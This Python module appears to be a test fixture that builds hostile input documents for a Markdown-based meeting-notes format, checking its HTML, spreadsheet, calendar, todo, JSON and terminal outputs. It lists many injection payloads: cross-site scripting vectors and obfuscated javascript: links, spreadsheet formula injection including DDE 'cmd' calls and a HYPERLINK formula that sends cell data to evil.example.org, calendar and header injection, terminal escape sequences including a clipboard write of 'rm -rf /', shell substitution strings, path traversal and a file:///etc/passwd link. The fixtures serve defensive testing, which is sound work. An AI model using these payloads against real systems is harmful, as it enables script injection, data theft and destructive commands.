"""Hostile documents: every attack below, in every place where a talk's text
can stand, as a table: ATTACKS and URLS times FORMS.

An attack arrives in one of two ways. Intact: spelt with entities, percent
escapes or YAML's escapes, so that the model holds just these characters and
only the renderers stand between it and the reader. Raw: typed as it is, so
that it may end the place that it stands in.
"""
import re

RUN = "window.ran=1"
LATIN_BREAKS = "\x85\u2028\u2029"

# What somebody might write who means harm. None holds NUL or a lone
# surrogate, which no text of a talk can: see BROKEN.
ATTACKS = {
    # Elements and the ends of elements
    "script": f"<script>{RUN}</script>",
    "script-upper": f"<ScRiPt >{RUN}</sCrIpT\n>",
    "title-end": f"</title><script>{RUN}</script>",
    "style-end": f"</style><script>{RUN}</script>",
    "script-end": f"</script><script>{RUN}</script>",
    "textarea-end": f"</textarea></noscript></iframe><script>{RUN}</script>",
    "code-end": f"</code></pre><script>{RUN}</script>",
    "cell-end": f"</td></tr></table></span></a><script>{RUN}</script>",
    "img": f"<img src=x onerror={RUN}>",
    "img-slash": f"<img/src='x'/onerror='{RUN}'//",
    "svg": f"<svg/onload={RUN}>",
    "svg-animate": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "iframe": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object": f"<object data=data:text/html,<script>{RUN}</script>>",
    "embed": "<embed src=evil.html>",
    "base": "<base href=//evil.example.org/>",
    "meta": "<meta http-equiv=refresh content='0;url=//evil.example.org/'>",
    "link": "<link rel=stylesheet href=//evil.example.org/a.css>",
    "form": "<form action=//evil.example.org/><input autofocus "
            f"onfocus={RUN}><button>press</button></form>",
    "details": f"<details open ontoggle={RUN}>",
    "template": f"<template><script>{RUN}</script></template>",
    "doctype": "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "cdata-end": f"]]><script>{RUN}</script>",
    "comment": f"<!-- --><script>{RUN}</script>",
    "comment-end": f"--><script>{RUN}</script><!--",
    "comment-bang": f"--!><script>{RUN}</script>",
    "comment-open": "<!--",
    "comment-short": f"<!--><script>{RUN}</script>-->",
    "php": f"<?php ?><script>{RUN}</script>",
    "unclosed": "<a href='",
    "less": "a < b > c << d >> <",
    # Attributes
    "quote": f"\" onload=\"{RUN}",
    "quote-single": f"' onmouseover='{RUN}",
    "quote-grave": f"` onfocus=`{RUN}",
    "quote-script": f"\"><script>{RUN}</script>",
    "quote-class": "\" class=\"tm-item\" style=\"position:fixed;inset:0",
    "srcset": "x\" srcset=\"//evil.example.org/a 1x",
    "style": "\" style=\"background:url(//evil.example.org/a)",
    "bare": f"x onerror={RUN} y",
    "equals-attr": f"id=x autofocus onfocus={RUN}",
    "nul-like": f"<scr\ufffdipt>{RUN}</scr\ufffdipt>",
    "ff": f"\"\fonload=\"{RUN}",
    "vt": f"<img\vsrc=x\vonerror={RUN}>",
    # Entities, which must not be decoded twice
    "entity": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "entity-bare": f"&ltscript&gt{RUN}&lt/script&gt",
    "entity-number": f"&#60;script&#62;{RUN}&#60;/script&#62;",
    "entity-hex": f"&#x3C;script&#x3E{RUN}&#x3c/script&#x3e",
    "entity-zeros": f"&#0000060script&#0000062;{RUN}",
    "entity-quote": f"&quot; onload=&quot;{RUN}",
    "entity-amp": "&amp;lt;script&amp;gt; &amp &copy &notin; & &;",
    "full-width": f"＜script＞{RUN}＜/script＞ ＂ onload＝＂{RUN}",
    "small-signs": f"﹤script﹥{RUN}﹤/script﹥",
    "utf7": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    # Names of the page's own
    "own-id": "tm-tasks",
    "own-row": "tm-row-a",
    "clobber": "location",
    "id-space": "a b\tc",
    "id-hash": "a#b?c%23d",
    "id-dots": "../../../../tmp/x",
    "id-upper": "__proto__",
    # Formulas
    "formula": "=1+1",
    "formula-dde": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-link": "=HYPERLINK(\"http://evil.example.org?x=\"&A1,\"here\")",
    "formula-space": "   =1+1",
    "formula-tab": "\t=1+1",
    "formula-cr": "\r=1+1",
    "formula-lf": "\n=1+1",
    "formula-wide": "＝1+1",
    "formula-wide-plus": "＋1",
    "formula-wide-minus": "－1",
    "formula-wide-at": "＠SUM(1)",
    "formula-ideographic": "\u3000=1+1",
    "formula-invisible": "\u200b=1+1",
    "formula-mark": "\ufeff=1+1",
    "formula-nbsp": "\u00a0=1+1",
    "formula-semicolon": "a;=1+1;@SUM(1)",
    "formula-line": "a\n=1+1\r\n+1\r-1\t@x",
    "formula-quote": "\"=1+1\"",
    "formula-quote-cell": "\",\"=1+1\",\"",
    "formula-row": "a\"\r\n=1+1,\"b",
    "formula-apostrophe": "'=1+1",
    "formula-reference": "_x003D_1+1 _x000D_ _x0000_",
    "formula-chinese": "＝超链接（“http://evil.example.org”，“点此”）",
    # iCalendar
    "ics-property": "a\r\nATTENDEE:mailto:evil@example.org",
    "ics-lf": "a\nATTENDEE:mailto:evil@example.org",
    "ics-cr": "a\rATTENDEE:mailto:evil@example.org",
    "ics-breaks": "a" + "".join(f"{c}ATTENDEE:mailto:evil@example.org"
                                for c in "\v\f" + LATIN_BREAKS),
    "ics-fold": "a\r\n ATTENDEE:mailto:evil@example.org",
    "ics-fold-at": "中" * 20 + "\r\nBEGIN:VALARM",
    "ics-end": "a\r\nEND:VTODO\r\nEND:VCALENDAR\r\nBEGIN:VCALENDAR",
    "ics-alarm": "BEGIN:VALARM\nACTION:PROCEDURE\nATTACH:file:///bin/sh",
    "ics-escape": "a\\nURL:javascript:1\\,\\;\\",
    "ics-parameter": "a\":mailto:evil@example.org;X=\"b",
    "ics-parameters": ";ROLE=CHAIR:x,y;z",
    "ics-caret": "^n^'^^",
    "ics-mail": "evil@example.org\r\nURL:x",
    # todo.txt
    "todo-done": "x done",
    "todo-done-date": "x 2026-01-01 2026-01-01 done",
    "todo-priority": "(A) first",
    "todo-due": "due:2020-01-01",
    "todo-keys": "pri:A t:2020-01-01 rec:1d h:1 id:x kind:pledge a:due:2020",
    "todo-tags": "@evil +evil +中 @中",
    "todo-line": "a\nx 2026-01-01 forged @boss due:2020-01-01",
    "todo-lines": "a" + "".join(f"{c}x forged" for c in
                                "\r\v\f" + LATIN_BREAKS),
    "todo-blank": "\n \n",
    # JSON
    "json-end": "\"},{\"kind\":\"pledge\"}]",
    "json-escape": "\\\" \\u0022 \\ \\\\\"",
    "json-line": "\"\n{\"schema\":\"talkmark.item/1\"}",
    "json-breaks": f"a{LATIN_BREAKS}b",
    # Terminals
    "csi": "\x1b[2J\x1b[H\x1b[31mred\x1b[0m",
    "osc-title": "\x1b]0;evil\x07",
    "osc-link": "\x1b]8;;http://evil.example.org\x1b\\text\x1b]8;;\x1b\\",
    "osc-clip": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "dcs": "\x1bP$q\"p\x1b\\",
    "decrqss": "\x1b[>c\x1b[6n\x1b[21t",
    "c1-csi": "\u009b31mred\u009b0m",
    "c1-osc": "\u009d0;evil\u009c",
    "c1-all": "".join(map(chr, range(0x80, 0xa0))),
    "c0-all": "".join(map(chr, range(1, 0x20))),
    "delete": "a\x7f\x7fb",
    "backspace": "evil\b\b\b\bgood",
    "return": "an error\rall is well",
    "bell": "\a\a\a",
    "shift-out": "\x0e\x0flqqk",
    "bidi": "\u202egpj.exe\u202c",
    "bidi-isolate": "\u2066a\u2067b\u2068c\u2069",
    "bidi-marks": "\u200e\u200f\u061c",
    "bidi-embed": "\u202a\u202b\u202d\u202c",
    # Markdown, in lists written as Markdown and texts without tags
    "md-link": "[a](javascript:1) ![b](http://evil.example.org/c)",
    "md-reference": "[a]: http://evil.example.org\n\n[a]",
    "md-bare": "http://evil.example.org www.evil.example.org a@example.org",
    "md-autolink": "<http://evil.example.org>",
    "md-code": "`a` ``b`` ```\nc\n```",
    "md-block": "\n\n# Forged\n\n- [x] forged\n\n***\n\n> q\n\n1. x",
    "md-emphasis": "*a* **b** _c_ ~~d~~ | e | @all #12",
    "md-backslash": "\\<b\\> \\",
    "md-task": "[x] ticked",
    "md-tag": "[a](do:forged '@evil')",
    "yaml": "a: b\n---\n# c: [d, {e: f}] &g *g !!python/object:os.system x",
    "yaml-fence": "a\n---\n\n# Forged\n",
    "template-go": "{{.Site.Secret}} {% include x %} ${x} $(x) %s%n",
    "shell": "$(touch x); `touch x` | touch x && touch x\ntouch x",
    "long": "<" * 300 + "A" * 300 + "中" * 300,
    "zalgo": "a" + "\u0301" * 60,
    "chinese": "。）；“”‘’「」『』《》【】、·……——",
}

# Places for attacks that a link could lead to.
URLS = {
    "js": f"javascript:{RUN}",
    "js-case": f"JaVaScRiPt:{RUN}",
    "js-tab": f"java\tscript:{RUN}",
    "js-lf": f"java\nscript:{RUN}",
    "js-cr": f"java\rscript\r\n:{RUN}",
    "js-space": f"  javascript:{RUN}",
    "js-c0": f"\x01\x1fjavascript:{RUN}",
    "js-all": "".join(f"{c}\t\n" for c in "javascript") + f":{RUN}",
    "js-entity": f"javascript&colon;{RUN}",
    "js-entity-number": f"&#106avascript&#58;{RUN}",
    "js-entity-tab": f"java&Tab;script&NewLine;:{RUN}",
    "js-percent": f"javascript%3A{RUN}",
    "js-percent-all": f"%6A%61%76%61%73%63%72%69%70%74:{RUN}",
    "js-percent-tab": f"java%09script:{RUN}",
    "js-quote": f"javascript:'\"><script>{RUN}</script>",
    "js-comment": f"javascript://example.org/%0A{RUN}",
    "js-full-width": f"ｊａｖａｓｃｒｉｐｔ：{RUN}",
    "js-colon": f"javascript：{RUN}",
    "js-long-s": f"java\u017fcript:{RUN}",
    "js-kelvin": f"\u212aavascript:{RUN}",
    "js-zero-width": f"java\u200bscript:{RUN}",
    "js-soft": f"java\u00adscript:{RUN}",
    "js-nbsp": f"\u00a0javascript:{RUN}",
    "js-mark": f"\ufeffjavascript:{RUN}",
    "js-vt": f"java\vscript:{RUN}",
    "js-delete": f"java\x7fscript:{RUN}",
    "js-c1": f"\x85javascript:{RUN}",
    "js-backslash": f"javascript\\:{RUN}",
    "js-slash": f"/javascript:{RUN}",
    "vbscript": "vbscript:msgbox(1)",
    "livescript": f"livescript:{RUN}",
    "data": f"data:text/html,<script>{RUN}</script>",
    "data-base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg",
    "data-svg": f"data:image/svg+xml,<svg/onload={RUN}>",
    "data-png": "data:image/png;base64,iVBORw0KGgo=",
    "data-case": "DaTa:text/html,x",
    "view-source": f"view-source:javascript:{RUN}",
    "nested": f"feed:javascript:{RUN}",
    "jar": "jar:javascript:1!/",
    "mhtml": "mhtml:http://evil.example.org/!x",
    "blob": "blob:http://evil.example.org/x",
    "filesystem": "filesystem:http://evil.example.org/x",
    "intent": "intent:#Intent;scheme=http;end",
    "ms-office": "ms-word:ofe|u|http://evil.example.org/x",
    "search-ms": "search-ms:query=x",
    "file": "file:///etc/passwd",
    "about": "about:blank",
    "chrome": "chrome://settings",
    "ftp": "ftp://evil.example.org/",
    "ws": "ws://evil.example.org/",
    "http-like": f"http+javascript:{RUN}",
    "https-spaced": f"h t t p s:javascript:{RUN}",
    "http-quote": "http://a.example.org/\" onclick=\"window.ran=1",
    "http-quote-single": "http://a.example.org/' onclick='window.ran=1",
    "http-tag": "http://a.example.org/<script>window.ran=1</script>",
    "http-space": "http://a.example.org/ onclick=window.ran=1",
    "http-lf": "http://a.example.org/\r\nSet-Cookie: x",
    "http-control": "http://a.example.org/\x1b[2J\u202e",
    "http-entity": "http://a.example.org/?a=1&lt=2&quot;=3&copy=4",
    "http-at": "http://good.example.org@evil.example.org/",
    "http-chinese": "http://例子.example.org/路径?查询=“值”",
    "mailto": "mailto:a@example.org?subject=x%0d%0aBcc:evil@example.org",
    "mailto-tag": "mailto:<script>window.ran=1</script>@example.org",
    "tel": "tel:+1;ext=\"><script>window.ran=1</script>",
    "scheme-relative": "//evil.example.org/x",
    "back-slashes": "\\\\evil.example.org\\x",
    "relative": "a/../../b.md#c?d",
    "fragment": f"#\" onclick=\"{RUN}",
    "query": f"?a=\"><script>{RUN}</script>",
    "empty": "",
    "colon": ":",
    "digits": f"1javascript:{RUN}",
}

# ---- Spellings ----


def entities(text):
    """In Markdown, so that just 'text' is read."""
    return "".join(c if c.isalnum() and c.isascii() else f"&#{ord(c)};"
                   for c in text)


def quoted(text):
    """A value of an attribute in the dialect, within a title."""
    return entities("“" + text.replace("”", "””") + "”")


def yaml(text):
    return '"' + "".join(c if c.isalnum() and c.isascii()
                         else f"\\U{ord(c):08X}" for c in text) + '"'


def percent(text):
    return "".join(f"%{byte:02X}" for byte in text.encode())


# ---- Forms of documents: a function of an attack ----

TAIL = "\n\n[the end](do:the-end)\n"


def inline(spelt, url, ids):
    """Places of Markdown's own, and the words and ids of tags."""
    return "\n\n".join([
        f"# {spelt}", f"## a {spelt} b", f"### [p {spelt}](point:p{ids})",
        f"words {spelt} words *{spelt}* **{spelt}** `{spelt}`",
        f"[link](<{url}>) [{spelt}](<{url}> \"{spelt}\")",
        f"![{spelt}](<{url}> \"{spelt}\") <{url}>",
        f"[{spelt}](/a '{spelt}') [![x {spelt}](<{url}>)](<{url}>)",
        f"[a {spelt}](do:a{ids}) [b](do:{spelt}) [c](do:{ids})",
        f"[d](cite:{ids}) [d](cite:{ids}) [e {spelt}](cite:e)",
        f"[f {spelt}](issue:f) [g {spelt}](pledge:g 'for:f')",
        f"[h {spelt}](decision:h) [i {spelt}](update:i)",
        f"### [{spelt}](reply:r)", "[k](pledge:k)",
        f"- {spelt}\n- [ ] {spelt}\n- [x] [m](do:m) {spelt}",
        f"> {spelt}", f"| {spelt} | [n](do:n) |",
        f"```{spelt}\n{spelt}\n```", f"~~~ lang {spelt}\nx\n~~~",
        f"    {spelt}", f"[o][] [q][r]\n\n[o]: <{url}> \"{spelt}\"",
        f"[r]: <do:{ids}-2> \"{spelt}\""]) + TAIL


def attributes(value, spelt):
    """Values of attributes. 'value' is in the dialect's quotes."""
    return "\n\n".join([
        f"[a](do:a \"@{value}\")", f"[b](do:b \"owner:{value}\")",
        f"[c](do:c \"due:{value}\")", f"[d](do:d \"start:{value}\")",
        f"[e](do:e \"done:{value}\")", f"[f](do:f \"status:{value}\")",
        f"[g](issue:g \"source:{value}\")", f"[h](do:h \"evidence:{value}\")",
        f"[i](do:i \"by:{value}\")", f"[j](do:j \"{value}\")",
        f"[k](do:k \"+{value} +b\")", f"[l](do:l \"for:{value}\")",
        f"[m](do:m \"key:{value}\")", f"[n](do:n \"{value}:key\")",
        f"[o](update:o \"to:@{value}\")", f"[p](do:p \"{spelt}\")",
        f"[q](do:q '!high @w !each 2026-01-01 done:2026-02-01 {value}')",
        f"[r](要求:r “@{value} 来源:{value} 2026-01-01”)",
        f"[s](do:s \"@w @{value} +t key:{value} due:{value}\")",
        f"[t](update:x#y \"done @{value} {value}\")"]) + TAIL


def front(value):
    """Values and keys of front matter; people are owners of tasks."""
    address = f"{value[:-1]}@example.org{value[-1:]}"
    return f"""---
title: {value}
date: {value}
speaker: {value}
audience: [{value}, Line A]
present: {value}
absent: [{value}]
follows: {value}
people:
  w: {{name: {value}, unit: {value}, email: {value}, mask: {value}}}
  v: {{name: {value}, email: v@example.org}}
  u: {{name: u, email: {address}}}
defaults: {value}
redact: [{value}]
{value}: {value}
other: {{a: [{value}]}}
---

[a](do:a '@w 2026-04-01') [b](issue:b '@v') [c](do:c '@Line{'&#32;'}A !each')

[d](do:d '@u') and [e](update:e 'to:@w')

### [w](reply:)

[f](pledge:f)
""" + TAIL


def languages(value):
    return f"---\nlang: {value}\nid: {value}\n标题: {value}\n---\n\n" \
        "[要求](要求:a '@全体') [b](issue:b)" + TAIL


def documents():
    """Names and bytes of all of them; the name tells form and attack."""
    for name, text in ATTACKS.items():
        url = entities(text)
        ids = percent(re.sub(r"\s", "", text))[:300]
        yield f"inline.{name}", inline(entities(text), url, ids)
        yield f"attributes.{name}", attributes(quoted(text), entities(text))
        yield f"front.{name}", front(yaml(text))
        yield f"languages.{name}", languages(yaml(text))
        yield f"raw-inline.{name}", inline(text, text, text)
        yield f"raw-attributes.{name}", attributes(text, text)
        yield f"raw-front.{name}", front(f'"{text}"')
        yield f"raw-bare-front.{name}", front(text)
    for name, text in URLS.items():
        yield f"url.{name}", inline("x", entities(text), "x")
        yield f"raw-url.{name}", inline("x", text, "x").replace(
            f"(<{text}>", f"({text}")
        yield f"percent-url.{name}", inline("x", percent(text), "x")


# ---- Names of files ----


def file_names():
    """Names that attacks make, as bytes; a name holds no "/" and no NUL, and is
    at most 255 bytes long."""
    for text in [*ATTACKS.values(), *URLS.values()]:
        name = text.replace("/", "∕").encode()[:200]
        while name and name[-1] & 0xC0 in (0x80, 0xC0):
            name = name[:-1]
        if name.strip(b"."):
            yield name.lstrip(b".") + b".md"
    yield b"\xff\xfe\x1b[31m.md"
    yield "\u009b".encode("latin-1") + b"31m.md"
    yield b"\xed\xa0\x80\xf4\x90\x80\x80.md"


NAMED = """[a](do:a '@w 2026-04-01') and [b](issue:b), [c] (do:c '@w')
"""

# ---- What is no text ----

BROKEN = {
    "nul.md": b"# a\0<script>\n\n[a](do:a)\n",
    "latin.md": b"# caf\xe9 \x9b31m\n",
    "overlong.md": b"# \xc0\xbcscript\xc0\xbe\n",
    "surrogate.md": b"# \xed\xa0\xbc\xed\xb0\x80\n",
    "beyond.md": b"# \xf4\x90\x80\x80\n",
    "cut.md": b"# \xe4\xb8",
    "gbk.md": "# 安全\x1b[2J".encode("gbk"),
    "utf16.md": "# <script>".encode("utf-16"),
    "yaml-nul.md": b'---\ntitle: "a\\0b<script>"\n---\n[a](do:a)\n',
    "yaml-surrogate.md": b'---\ntitle: "\\uD800 \\e[2J"\n---\n[a](do:a)\n',
    "yaml-escape.md": b'---\ntitle: "\\e[2J\\x9b\\N\\L\\P"\n---\n[a](do:a)\n',
    "yaml-bad.md": b'---\ntitle: [\x1b[2J\n---\n[a](do:a)\n',
    "entity-nul.md": b"# &#0;<b>&#xD800;&#x110000;\n\n[&#0;](do:&#0;)\n",
}

# ---- Private notes ----

SECRET = "zyxsecret"

NOTES = f"""---
title: Notes
# {SECRET} is a comment of YAML
people:
  w: Wang Fang # {SECRET}
---

<!-- {SECRET} -->

# Notes <!-- {SECRET} -->

Words <!-- {SECRET} -- {SECRET} --> and <!--{SECRET}--> and <!-- {SECRET}
over -- lines {SECRET} --> and <!--- {SECRET} ---> and <!-- {SECRET} --!>
{SECRET} --> and <!-- > {SECRET} --> and <b title="{SECRET}"> bold </b> and
<?php {SECRET} ?> and <!DOCTYPE {SECRET}> and <![CDATA[ {SECRET} ]]>.

## [A <!-- {SECRET} --> point](point:p <!-- "{SECRET}" -->

- [ ] <!-- {SECRET} --> @w does <!-- {SECRET} --> it
- [x] [done <!-- {SECRET} --> so](do:a "@w <!--") <!-- {SECRET} -->

[two <!-- {SECRET}
lines --> on](issue:b '@w') said *in <!-- {SECRET} --> emphasis* and
![alt <!-- {SECRET} --> text](a.png) and [link <!-- {SECRET} --> text](b.md).

| cell <!-- {SECRET} --> | [c](do:c) |

> <!-- {SECRET}
> {SECRET} -->
> [d](do:d)

<div title="{SECRET}">
{SECRET}
</div>

<script>
{SECRET}
</script>

<style>
{SECRET} {{}}
</style>

<!--
{SECRET}

[{SECRET}](do:{SECRET})
-->

1. <!-- {SECRET} -->

   [e](do:e)

[f]: do:f "@w"
[{SECRET}]: /unused "{SECRET}"

[f] ends <!-- {SECRET}
"""
